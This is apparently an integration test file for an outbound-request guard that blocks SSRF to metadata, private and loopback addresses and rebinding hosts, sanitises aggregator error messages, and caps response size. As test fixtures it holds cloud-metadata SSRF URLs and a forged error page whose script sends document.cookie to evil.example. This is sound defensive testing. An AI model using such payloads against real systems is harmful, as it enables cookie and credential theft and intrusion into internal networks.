import request from 'supertest';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import type { Express } from 'express';
import { createOutboundGuard, installOutboundGuard, type Resolver } from '../../aggregators/outbound-guard.js';
import type { Db } from '../../db/index.js';
import { apiFixtures, bearer, rowCounts } from '../support/api-fixtures.js';
import { eventually, useApiHarness } from '../support/harness.js';
import { startSandboxWorld, type SandboxWorld } from '../support/sandbox-world.js';

// Aggregator URLs are set by companies, and the worker calls them with the connection's token: the outbound guard
// decides where those calls may go (API, real worker on the dev server, real sandbox over HTTP), and an aggregator's
// error answer comes back only as a short, cleaned message.

let db: Db;
let app: Express;
const worlds: SandboxWorld[] = [];

useApiHarness((h) => ({ db, app } = h));

const { newCompany, newVenue } = apiFixtures(() => app);

/** DNS as the test wants it: each name answers its list of addresses in turn (the last one again after that). */
function scriptedResolver(answers: Record<string, string[]>): Resolver & { asked: string[] } {
  const asked: string[] = [];
  const resolver = (hostname: string) => {
    asked.push(hostname);
    const queue = answers[hostname];
    if (!queue) return Promise.reject(Object.assign(new Error(`getaddrinfo ENOTFOUND ${hostname}`), { code: 'ENOTFOUND' }));
    const address = queue.length > 1 ? (queue.shift() as string) : (queue[0] as string);
    return Promise.resolve([{ address, family: address.includes(':') ? 6 : 4 }]);
  };
  return Object.assign(resolver, { asked });
}

const production = (resolve: Resolver, allowHosts: string[] = []) => installOutboundGuard(createOutboundGuard({ production: true, allowHosts }, resolve));

afterEach(() => {
  installOutboundGuard(createOutboundGuard({ production: false, allowHosts: [] }));
});

afterAll(async () => {
  await Promise.all(worlds.map((w) => w.close()));
});

async function sync(key: string, activityId: string) {
  const res = await request(app).get(`/v1/activities/${activityId}/sync`).set(bearer(key));
  expect(res.status).toBe(200);
  return res.body as {
    connections: Array<{ aggregator: string; pending: boolean; running: boolean; lastError: { message: string } | null }>;
  };
}

/**
 * An activity opted in to aggregators, with one session in two days when asked (created before opting in, so the
 * first sync pass sends both), so a pass has something to send.
 */
async function offeredActivity(key: string, venueId: string, withSession: boolean) {
  const created = await request(app).post('/v1/activities').set(bearer(key)).send({ venueId, name: 'Climbing', maxParticipants: 6 });
  expect(created.status).toBe(201);
  const activityId = created.body.id as string;
  if (withSession) {
    const startsAt = new Date(Date.now() + 2 * 86_400_000).toISOString().replace(/\.\d+Z$/, 'Z');
    expect((await request(app).post(`/v1/activities/${activityId}/sessions`).set(bearer(key)).send({ startsAt, durationMinutes: 60 })).status).toBe(201);
  }
  const optedIn = await request(app).patch(`/v1/activities/${activityId}`).set(bearer(key)).send({ registrationRules: { allowAggregatorBookings: true } });
  expect(optedIn.status, JSON.stringify(optedIn.body)).toBe(200);
  return activityId;
}

/** The refusal shown for the connection once the lifecycle stopped trying (a retryable failure keeps it running). */
async function settledError(key: string, activityId: string) {
  let last: unknown;
  return eventually(
    async () => {
      const c = (await sync(key, activityId)).connections[0];
      last = c;
      return c?.lastError && !c.running && !c.pending ? c.lastError.message : undefined;
    },
    20_000,
    'the refusal shown in the sync view',
  ).catch((error: unknown) => {
    throw new Error(`${String(error)}; the connection's sync state: ${JSON.stringify(last)}`);
  });
}

describe('aggregator URLs in production', () => {
  it('refuses metadata, private, loopback and credential-carrying URLs with 422 and writes nothing; a public or allow-listed host is taken', async () => {
    production(scriptedResolver({ 'api.partner.example': ['93.184.215.14'], 'intranet.example': ['192.168.1.5'], 'gateway.internal': ['10.20.0.4'] }), [
      'gateway.internal',
    ]);
    const { key } = await newCompany();
    const venueId = await newVenue(key);
    const before = await rowCounts(db, ['connections']);
    const refused: Array<[string, RegExp]> = [
      ['http://169.254.169.254/', /https/],
      ['https://169.254.169.254/latest/meta-data/', /metadata/],
      ['https://[fd00:ec2::254]/', /metadata/],
      ['https://10.0.0.1', /private-network address, not a public one/],
      ['https://localhost', /loopback/],
      ['https://127.0.0.1:4101/', /loopback/],
      ['https://[::ffff:127.0.0.1]/', /loopback/],
      ['https://[64:ff9b::a00:1]/', /private/],
      ['https://0.0.0.0/', /unspecified/],
      ['https://100.64.0.1/', /carrier-grade NAT/],
      ['https://intranet.example/', /intranet\.example: it resolves to 192\.168\.1\.5, a private-network address/],
      ['https://nowhere.example/', /does not resolve/],
      ['https://user:secret@api.partner.example/', /credentials/],
    ];
    for (const [apiBaseUrl, why] of refused) {
      const res = await request(app).post(`/v1/venues/${venueId}/connections`).set(bearer(key)).send({ aggregator: 'workit', apiBaseUrl });
      expect(res.status, `${apiBaseUrl}: ${JSON.stringify(res.body)}`).toBe(422);
      expect(res.body.error.code).toBe('rule_violated');
      expect(res.body.error.details).toEqual([{ location: 'body', path: 'apiBaseUrl', message: expect.stringMatching(why) }]);
      expect(JSON.stringify(res.body)).not.toContain('secret');
    }
    expect(await rowCounts(db, ['connections'])).toEqual(before);

    const taken = await request(app).post(`/v1/venues/${venueId}/connections`).set(bearer(key)).send({ aggregator: 'workit', apiBaseUrl: 'https://api.partner.example/v1' });
    expect(taken.status, JSON.stringify(taken.body)).toBe(201);
    const patched = await request(app).patch(`/v1/connections/${taken.body.id}`).set(bearer(key)).send({ apiBaseUrl: 'https://10.0.0.1/', status: 'active' });
    expect(patched.status).toBe(422);
    const row = await db.selectFrom('connections').select(['api_base_url', 'status']).where('id', '=', taken.body.id).executeTakeFirstOrThrow();
    expect(row).toEqual({ api_base_url: 'https://api.partner.example/v1', status: 'requested' });
    const allowListed = await request(app).patch(`/v1/connections/${taken.body.id}`).set(bearer(key)).send({ apiBaseUrl: 'https://gateway.internal/partner' });
    expect(allowListed.status, JSON.stringify(allowListed.body)).toBe(200);
  });

  it('refuses, when the worker connects, a name that now resolves to a private address (DNS rebinding): non-retryable, shown in the sync view', async () => {
    // Public when the URL is set, private when the worker looks it up again.
    const resolver = scriptedResolver({ 'rebind.partner.example': ['93.184.215.14', '10.0.0.7'] });
    production(resolver);
    const { key } = await newCompany();
    const venueId = await newVenue(key);
    const connection = await request(app)
      .post(`/v1/venues/${venueId}/connections`)
      .set(bearer(key))
      .send({ aggregator: 'workit', status: 'active', apiBaseUrl: 'https://rebind.partner.example/api', externalVenueId: 'rebind-venue', credentials: { apiToken: 'workit-token-1' } });
    expect(connection.status, JSON.stringify(connection.body)).toBe(201);
    // No session: the pass is the activity's listing alone, the call the guard refuses.
    const activityId = await offeredActivity(key, venueId, false);

    const message = await settledError(key, activityId);
    expect(message).toMatch(/^activity: workit pushActivity failed: refused to connect: rebind\.partner\.example resolves to 10\.0\.0\.7, a private-network address, not a public one/);
    expect(resolver.asked.filter((h) => h === 'rebind.partner.example').length).toBeGreaterThanOrEqual(2);
  });
});

describe("an aggregator's error answer", () => {
  it('comes back in the sync view as a short message without markup, control characters or credentials', async () => {
    const world = await startSandboxWorld();
    worlds.push(world);
    const { key } = await newCompany();
    const venueId = await newVenue(key);
    const body = world.connectionBody('workit');
    expect((await request(app).post(`/v1/venues/${venueId}/connections`).set(bearer(key)).send(body)).status).toBe(201);
    const token = (body.credentials as { apiToken: string }).apiToken;
    const page =
      '<!DOCTYPE html><html><head><title>Error</title><script>fetch("https://evil.example/?c="+document.cookie)</script>' +
      '<style>body{color:red}</style></head><body><h1>Session refused</h1>\u001b[31m\r\nFORGED log line\u202e' +
      `<p>Authorization: Bearer ${token} api_key=AKIAIOSFODNN7EXAMPLE1234 sig 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08</p>` +
      `<p>${'The upstream gateway could not process the request. '.repeat(100)}</p></body></html>`;
    expect(page.length).toBeGreaterThan(5_000);
    await world.fault('workit', { status: 400, path: '/sessions/', body: page });
    const activityId = await offeredActivity(key, venueId, true);

    const message = await settledError(key, activityId);
    expect(message).toMatch(/^session [0-9a-f-]+: workit \w+ failed with HTTP 400: Error Session refused FORGED log line Authorization: Bearer \[redacted\] api_key=\[redacted\] sig \[redacted\] The upstream gateway/);
    expect(message.length).toBeLessThan(320);
    expect(message).toMatch(/…$/);
    for (const leaked of ['<', '>', 'script', 'evil.example', 'color:red', '\u001b', '\r', '\n', '\u202e', token, 'AKIAIOSFODNN7EXAMPLE', '9f86d081']) {
      expect(message).not.toContain(leaked);
    }
  });
});

describe('an answer too large to read', () => {
  it('is cut off at 4 MiB and fails the call, and the guard goes on calling the same host', async () => {
    const { createServer } = await import('node:http');
    const { MAX_ANSWER_BYTES, AnswerTooLargeError } = await import('../../aggregators/outbound-guard.js');
    let served = 0;
    const server = createServer((req, res) => {
      served += 1;
      if (req.url === '/small') {
        res.writeHead(200, { 'content-type': 'application/json' }).end('{"ok":true}');
        return;
      }
      // An endless answer: it would fill the worker's memory if read whole.
      res.writeHead(200, { 'content-type': 'application/json' });
      const chunk = Buffer.alloc(64 * 1024, 'x');
      const pump = () => {
        while (res.write(chunk)) if (res.destroyed) return;
        res.once('drain', pump);
      };
      res.on('error', () => undefined);
      pump();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as { port: number }).port;
    try {
      const guard = createOutboundGuard({ production: false, allowHosts: [] });
      const before = process.memoryUsage().rss;
      await expect(guard.fetch(`http://127.0.0.1:${port}/endless`, { method: 'GET', headers: {} })).rejects.toBeInstanceOf(AnswerTooLargeError);
      expect(process.memoryUsage().rss - before).toBeLessThan(MAX_ANSWER_BYTES * 16);
      const small = await guard.fetch(`http://127.0.0.1:${port}/small`, { method: 'GET', headers: {} });
      expect(await small.json()).toEqual({ ok: true });
      expect(served).toBe(2);
    } finally {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
  });
});
